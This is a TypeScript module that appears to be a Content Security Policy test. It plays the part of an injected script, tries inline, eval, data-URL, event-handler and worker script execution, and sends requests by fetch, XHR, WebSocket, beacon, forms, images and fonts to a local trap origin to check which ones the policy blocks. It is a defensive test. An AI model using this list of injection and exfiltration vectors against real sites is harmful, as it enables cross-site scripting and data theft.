// What a script that had got into the page would try. Each attempt is made once; what came of it is
// seen from outside: connections at the trap, and the policy's own reports.

/** What the page itself has noticed so far. */
export interface Intrusion {
  /** Names of the scripts that ran although the page did not bring them. */
  readonly ran: string[];
  /** Directives of the policy that stopped something. */
  readonly stoppedBy: string[];
}

const seen: Intrusion = { ran: [], stoppedBy: [] };

export function intrusion(): Intrusion {
  return seen;
}

/** Tries to run foreign script, and to reach `origin` (`127.0.0.1:port`) in every way a page knows. */
export function startIntrusion(origin: string): void {
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    if (!seen.stoppedBy.includes(effectiveDirective)) seen.stoppedBy.push(effectiveDirective);
  });
  Object.assign(globalThis, { intruder: (name: string) => void seen.ran.push(name) });
  // A call from the debugger may use eval whatever the policy says; a task of the page's own may not.
  setTimeout(() => {
    for (const attempt of [...scripts(origin), ...senders(origin)]) {
      try {
        Promise.resolve(attempt()).catch(() => undefined);
      } catch {
        // Being stopped is often a throw; whether anything came through is judged outside.
      }
    }
  });
}

type Attempt = () => unknown;

function append<K extends keyof HTMLElementTagNameMap>(
  tag: K,
  properties: Partial<HTMLElementTagNameMap[K]>,
): HTMLElementTagNameMap[K] {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
}

function scripts(origin: string): Attempt[] {
  return [
    () => append('script', { textContent: `intruder('inline')` }),
    () => append('script', { src: `data:text/javascript,intruder('data')` }),
    () => append('script', { src: `http://${origin}/script.js` }),
    () => {
      append('div', { innerHTML: `<button id="handler" onclick="intruder('handler')"></button>` });
      document.getElementById('handler')?.click();
    },
    () => {
      append('a', { href: `javascript:intruder('link')` }).click();
    },
    () => (0, eval)(`intruder('eval')`) as unknown,
    () => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what an intruder would do
      setTimeout(`intruder('timer')`);
    },
    () => new Worker(URL.createObjectURL(new Blob([`importScripts('http://${origin}/worker.js')`]))),
  ];
}

function senders(origin: string): Attempt[] {
  return [
    () => fetch(`http://${origin}/fetch`, { method: 'POST', body: 'x', mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', `http://${origin}/xhr`);
      request.send();
    },
    () => new WebSocket(`ws://${origin}/socket`),
    () => new EventSource(`http://${origin}/events`),
    () => navigator.sendBeacon(`http://${origin}/beacon`, 'x'),
    () => append('img', { src: `http://${origin}/image` }),
    () => append('link', { rel: 'stylesheet', href: `http://${origin}/style` }),
    () => append('link', { rel: 'prefetch', href: `http://${origin}/prefetch` }),
    () => append('iframe', { src: `http://${origin}/frame` }),
    () => append('video', { src: `http://${origin}/video` }),
    () => append('object', { data: `http://${origin}/object` }),
    () => {
      append('iframe', { name: 'answer' });
      append('form', { action: `http://${origin}/form`, target: 'answer', method: 'post' }).submit();
    },
    () => new FontFace('stray', `url(http://${origin}/font)`).load(),
  ];
}
